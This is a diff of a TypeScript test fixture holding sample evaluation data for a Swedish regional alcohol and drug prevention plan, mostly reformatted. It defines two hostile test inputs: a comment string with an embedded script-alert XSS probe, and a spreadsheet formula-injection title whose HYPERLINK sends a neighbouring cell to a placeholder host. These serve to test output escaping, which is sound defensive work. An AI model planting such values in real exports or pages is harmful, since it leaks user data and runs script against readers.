@@ -1,4 +1,3 @@
-import { STATUSES } from "../../src/index.js";
 import type {
   ActivityEvaluation,
   ActivityYear,
@@ -9,9 +8,10 @@ import type {
   Status,
   StatusSummary,
 } from "../../src/index.js";
+import { STATUSES } from "../../src/index.js";
 
 /** The comment that tries every escape: markup, quotes, `&`, a pipe, a semicolon and a line break. */
-export const NASTY_COMMENT = 'Polis & kommun: färre träffar; se <script>alert("x")</script> | protokoll\nRad två med \'citat\'';
+export const NASTY_COMMENT = "Polis & kommun: färre träffar; se <script>alert(\"x\")</script> | protokoll\nRad två med 'citat'";
 
 const AS_OF = "2020-03-31";
 const YEARS = [2018, 2019, 2020] as const;
@@ -74,9 +74,22 @@ const i11: IndicatorEvaluation = {
       value: 45,
       target: 40,
       observations: [
-        obs("1.1-1", 2019, { value: 45, bySex: { cells: [{ sex: "female", value: 4 }, { sex: "male", value: 41 }] } }),
+        obs("1.1-1", 2019, {
+          value: 45,
+          bySex: {
+            cells: [
+              { sex: "female", value: 4 },
+              { sex: "male", value: 41 },
+            ],
+          },
+        }),
       ],
-      bySex: { cells: [{ sex: "female", value: 4 }, { sex: "male", value: 41 }] },
+      bySex: {
+        cells: [
+          { sex: "female", value: 4 },
+          { sex: "male", value: 41 },
+        ],
+      },
       fromPrevious: { from: 38, to: 45, difference: 7, relative: 7 / 38, direction: "improved" },
     },
     notYetDue(2020),
@@ -178,9 +191,22 @@ const i132: IndicatorEvaluation = {
       reported: true,
       value: 23,
       observations: [
-        obs("1.3-2", 2019, { value: 23, bySex: { cells: [{ sex: "female", value: 14 }, { sex: "male", value: 9 }] } }),
+        obs("1.3-2", 2019, {
+          value: 23,
+          bySex: {
+            cells: [
+              { sex: "female", value: 14 },
+              { sex: "male", value: 9 },
+            ],
+          },
+        }),
       ],
-      bySex: { cells: [{ sex: "female", value: 14 }, { sex: "male", value: 9 }] },
+      bySex: {
+        cells: [
+          { sex: "female", value: 14 },
+          { sex: "male", value: 9 },
+        ],
+      },
       fromPrevious: { from: 20, to: 23, difference: 3, relative: 0.15, direction: "changed" },
     },
     notYetDue(2020),
@@ -375,7 +401,12 @@ function activity(code: string, text: string, statuses: [Status, Status], indica
 
 const a11 = activity("1.1", "Utbildning i ansvarsfull alkoholservering (AAS) för restaurangpersonal", ["partly_met", "met"], [i11]);
 const a12 = activity("1.2", "Ta fram en gemensam tillsynsplan för länets kommuner", ["not_expected", "partly_met"], [i12]);
-const a13 = activity("1.3", "Samverkan mellan polis och kommuner kring <langning> & \"illegal\" handel", ["partly_met", "not_met"], [i131, i132]);
+const a13 = activity(
+  "1.3",
+  'Samverkan mellan polis och kommuner kring <langning> & "illegal" handel',
+  ["partly_met", "not_met"],
+  [i131, i132],
+);
 const a21 = activity("2.1", "Sammanställa och sprida länets föräldraskapsstöd", ["reported", "reported"], [i21]);
 const a22 = activity("2.2", "Föräldrautbildning i alla kommuner", ["reported", "missing"], [i221, i222]);
 const a23 = activity("2.3", "Kartlägga drogfria fritidsmiljöer vartannat år", ["met", "not_expected"], [i23]);
@@ -410,7 +441,12 @@ const SAMPLE: PlanEvaluation = {
   years: [...YEARS],
   lang: "sv",
   summary: summaries(all),
-  indicatorSummary: YEARS.map((y) => summary(y, indicators.map((i) => (i.years.find((iy) => iy.year === y) as IndicatorYear).status))),
+  indicatorSummary: YEARS.map((y) =>
+    summary(
+      y,
+      indicators.map((i) => (i.years.find((iy) => iy.year === y) as IndicatorYear).status),
+    ),
+  ),
   coverage: [
     { year: 2018, expected: 8, reported: 8, share: 1 },
     { year: 2019, expected: 8, reported: 7, share: 7 / 8 },
@@ -465,7 +501,6 @@ const SAMPLE: PlanEvaluation = {
     },
   ],
 };
-
 
 /** An area title that Excel would run as a formula: a link that sends the next cell away. */
 export const FORMULA_TITLE = '=HYPERLINK("https://example.invalid/?d="&E2;"Klicka här")';
